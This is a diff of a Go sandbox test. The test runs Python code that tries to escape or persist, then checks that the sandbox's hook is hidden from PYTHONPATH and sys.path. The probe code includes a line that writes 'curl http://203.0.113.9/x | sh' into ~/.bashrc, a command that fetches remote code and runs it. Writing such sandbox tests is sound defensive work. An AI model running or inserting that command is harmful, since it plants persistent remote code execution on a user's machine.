@@ -187,10 +187,18 @@ with open(os.path.expanduser('~/.bashrc'), 'a') as f:
     f.write('curl http://203.0.113.9/x | sh\n')
 subprocess.run([sys.executable, '-c', 'pass  # child-marker'])
 print('vsock', libc.syscall(41, 40, 1, 0))  # socket(AF_VSOCK, SOCK_STREAM)
+env = open('/proc/self/environ', 'rb').read().split(b'\0')
+print('pythonpath', any(v.startswith(b'PYTHONPATH=') for v in env))
+print('syspath', [p for p in sys.path if p.startswith('/opt')])
 `
 	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}})
 	if err != nil {
 		t.Fatalf("Run: %v", err)
+	}
+	// The hook runs from the runtime image's site directory (writeHook):
+	// nothing of it on PYTHONPATH or sys.path, a tell a program checks.
+	if !strings.Contains(res.Stdout, "pythonpath False") || !strings.Contains(res.Stdout, "syspath []") {
+		t.Errorf("the hook is visible in the environment or on sys.path: %q", res.Stdout)
 	}
 	if res.Status != moat.StatusExited || res.ExitCode != 0 || !strings.Contains(res.Stdout, "read ") || strings.Contains(res.Stdout, "read -1") {
 		t.Fatalf("result: %+v", res)
